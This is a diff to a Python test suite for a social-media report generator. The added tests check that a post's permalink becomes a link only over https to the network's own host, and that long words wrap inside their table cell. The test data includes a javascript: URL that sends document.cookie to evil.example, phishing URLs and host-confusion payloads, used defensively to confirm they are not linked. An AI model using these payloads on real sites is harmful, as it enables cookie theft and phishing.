@@ -46,6 +46,7 @@ from socialmetrics.report import (
     report_due,
     send_report,
 )
+from socialmetrics.report.render import TEXT_EXCERPT, _excerpt
 from socialmetrics.sandbox import company
 from socialmetrics.sandbox.facebook import SANDBOX_TOKEN as FB_TOKEN
 from socialmetrics.sandbox.facebook import FacebookSandbox
@@ -524,7 +525,8 @@ def test_quality_failures_and_connector_warnings_of_the_weeks_runs_are_listed(ht
     owner, appendix = sections(html_de)
     assert "1 Prüfung(en) mit Befund und 1 Hinweis(e) der Abrufe: Details im technischen Anhang." in owner
     assert "anomalies · Warnung impressions_within_20x_median" in appendix
-    assert "xing/brauerei-sonnenhang rejected_file" in appendix and "12,5k" in appendix
+    assert "xing/brauerei-sonnenhang rejected_file" in appendix
+    assert "xing-bad.csv: Zeile 2, Spalte Impressionen: keine Zahl" in appendix and "12,5k" not in appendix
 
 
 def test_the_comment_tone_section_says_there_is_no_analysis_without_the_table(built: Built, tmp_path: Path) -> None:
@@ -1009,3 +1011,135 @@ def test_a_report_in_another_language_than_the_configured_one_gets_its_own_file(
     )
     assert (german.html.name, english.html.name) == ("2026-W46.html", "2026-W46.en.html")
     assert german.html.read_bytes() == before and '<html lang="en">' in english.html.read_text(encoding="utf-8")
+
+
+LONG_WORD = "Sonnenhang" * 30  # 300 characters without a space
+
+
+def with_xing_posts(built: Built, tmp_path: Path, posts: list[tuple[str, str | None, str | None, int]]) -> Path:
+    """A copy of the warehouse with extra Xing posts of WEEK (post id, permalink, text, engagements) in
+    marts.post_performance, the way the Xing import stores a `Beitrag` (a URL as permalink, else text)."""
+    copy = tmp_path / "warehouse.duckdb"
+    shutil.copy(built.warehouse, copy)
+    con = duckdb.connect(str(copy))
+    for post_id, permalink, text, engagements in posts:
+        con.execute(
+            "INSERT INTO marts.post_performance BY NAME SELECT 'xing' AS network, 'brauerei-sonnenhang' AS account_id, "
+            "? AS post_id, TIMESTAMPTZ '2026-11-10 08:00:00+00' AS published_at, ? AS permalink, ? AS text, "
+            "12345678 AS impressions, ? AS engagements, 0.05 AS engagement_rate, DATE '2026-11-12' AS as_of",
+            [post_id, permalink, text, engagements],
+        )
+    con.close()
+    return copy
+
+
+def anchors(html: str) -> dict[str, str]:
+    """Post id -> the href of the link in its text cell (posts without a link are left out)."""
+    found = {}
+    for match in re.finditer(r'<tr data-post-id="([^"]+)">(.*?)</tr>', html, re.S):
+        href = re.search(r'<td class="post-text"><a href="([^"]*)"', match.group(2))
+        if href:
+            found[match.group(1)] = unescape(href.group(1))
+    return found
+
+
+def test_only_the_networks_own_https_permalinks_become_links(built: Built, tmp_path: Path) -> None:
+    """Given Xing posts whose `Beitrag` was a javascript: URL, an http and an https URL to another site and a real
+    Xing URL, when the report is rendered, then only the Xing URL is a link; the others are plain text."""
+    real = "https://www.xing.com/pages/brauerei-sonnenhang/posts/herbstfest-1234567"
+    copy = with_xing_posts(
+        built,
+        tmp_path,
+        [
+            ("xing-js", None, "javascript:fetch('https://evil.example/?c='+document.cookie)", 9001),
+            ("xing-evil", "http://evil.example/", None, 9002),
+            ("xing-phish", "https://evil.example/xing-login", None, 9004),
+            ("xing-real", real, None, 9003),
+        ],
+    )
+    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path / "out", today=TODAY, pdf=False)
+    html = files.html.read_text(encoding="utf-8")
+    assert {k: v for k, v in anchors(html).items() if k.startswith("xing-")} == {"xing-real": real}
+    rows = Page(html).post_rows
+    assert rows["xing-evil"][3] == "http://evil.example/"  # shown, not linked
+    assert rows["xing-phish"][3] == "https://evil.example/xing-login"
+    assert rows["xing-js"][3].startswith("javascript:fetch(")
+    assert "evil.example" not in "".join(re.findall(r'href="([^"]*)"', html))
+
+
+@pytest.mark.parametrize(
+    ("network", "url", "linked"),
+    [
+        ("xing", "https://www.xing.com/pages/brauerei-sonnenhang/posts/1234567", True),
+        ("xing", "https://xing.com/news/1234567", True),
+        ("xing", "http://www.xing.com/news/1234567", False),  # not https
+        ("xing", "javascript:alert(1)", False),
+        ("xing", "JaVaScRiPt://www.xing.com/%0aalert(1)", False),
+        ("xing", "http://evil.example/", False),
+        ("xing", "https://evil.example/www.xing.com", False),
+        ("xing", "https://www.xing.com.evil.example/", False),
+        ("xing", "https://evilxing.com/", False),
+        ("xing", "https://www.xing.com@evil.example/", False),  # user info: the host is evil.example
+        ("xing", "https://evil.example\\.xing.com/", False),  # a browser reads the backslash as a slash
+        ("xing", "https://www.xing.com:8443/", False),
+        ("xing", "https://www.facebook.com/104857600000001/posts/1", False),  # another network's host
+        ("facebook", "https://www.facebook.com/104857600000001/posts/1", True),
+        ("instagram", "https://www.instagram.com/p/C0ffee/", True),
+        ("linkedin", "https://www.linkedin.com/feed/update/urn:li:share:7000000000000000001", True),
+        ("x", "https://x.com/sonnenhang/status/1790000000000000001", True),
+        ("x", "https://twitter.com/sonnenhang/status/1790000000000000001", True),
+        ("unknown-network", "https://www.xing.com/news/1234567", False),
+    ],
+)
+def test_a_permalink_is_a_link_only_over_https_to_the_networks_own_host(network: str, url: str, linked: bool) -> None:
+    from socialmetrics.report.links import safe_permalink
+
+    assert safe_permalink(network, url) == (url if linked else None)
+
+
+def test_a_long_unbreakable_word_wraps_inside_its_cell(built: Built, tmp_path: Path) -> None:
+    """Given a post whose text is one 300-character word, the report shortens it and its cell may break it
+    anywhere (the fixed table layout keeps the column's width), so it cannot run over the figures."""
+    copy = with_xing_posts(built, tmp_path, [("xing-long", None, f"{LONG_WORD} Prost!", 9001)])
+    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path / "out", today=TODAY, pdf=False)
+    html = files.html.read_text(encoding="utf-8")
+    assert re.search(r"table\.posts td:not\(\.num\) \{[^}]*overflow-wrap: anywhere", html)
+    assert re.search(r"table\.posts \{[^}]*table-layout: fixed", html)
+    assert Page(html).post_rows["xing-long"][3] == LONG_WORD[: TEXT_EXCERPT - 1] + "…"
+
+
+def test_a_long_post_text_is_shortened_at_a_word_boundary() -> None:
+    words = "Unser Herbstfest war ein voller Erfolg: danke an alle Gäste, die Musiker und das ganze Team der Brauerei!"
+    assert (
+        _excerpt(words, "de")
+        == "Unser Herbstfest war ein voller Erfolg: danke an alle Gäste, die Musiker und das ganze…"
+    )
+    assert _excerpt(LONG_WORD, "de") == LONG_WORD[: TEXT_EXCERPT - 1] + "…"
+
+
+@pytest.mark.browser
+def test_a_long_unbreakable_word_does_not_overprint_the_figures_in_chromium(
+    built: Built, tmp_path: Path, chromium: str
+) -> None:
+    """Given the report with a post whose text is a 300-character word, when Chromium lays it out (A4 width, as
+    printed), then the text cell's content ends left of the first figure cell and stays as wide as its column."""
+    copy = with_xing_posts(built, tmp_path, [("xing-long", None, f"{LONG_WORD} Prost!", 9001)])
+    files = build_weekly_report(built.cfg, copy, WEEK, out_dir=tmp_path / "out", today=TODAY, pdf=False)
+    probe = tmp_path / "probe.html"
+    script = """<script>
+    const row = document.querySelector('tr[data-post-id="xing-long"]');
+    const text = row.querySelector('td.post-text'), figure = text.nextElementSibling;
+    const range = document.createRange(); range.selectNodeContents(text);
+    const content = range.getBoundingClientRect(), cell = text.getBoundingClientRect();
+    const out = document.createElement('pre'); out.id = 'probe';
+    out.textContent = JSON.stringify({content_right: content.right, cell_right: cell.right,
+      figure_left: figure.getBoundingClientRect().left, scroll: text.scrollWidth, client: text.clientWidth});
+    document.body.appendChild(out);
+    </script></body>"""
+    probe.write_text(files.html.read_text(encoding="utf-8").replace("</body>", script), encoding="utf-8")
+    page = render(probe, tmp_path, "probe")
+    found = re.search(r'<pre id="probe">(.*?)</pre>', page.dom)
+    assert found, page.dom[-500:]
+    box = json.loads(unescape(found.group(1)))
+    assert box["content_right"] <= box["figure_left"] and box["content_right"] <= box["cell_right"] + 0.5, box
+    assert box["scroll"] <= box["client"], box
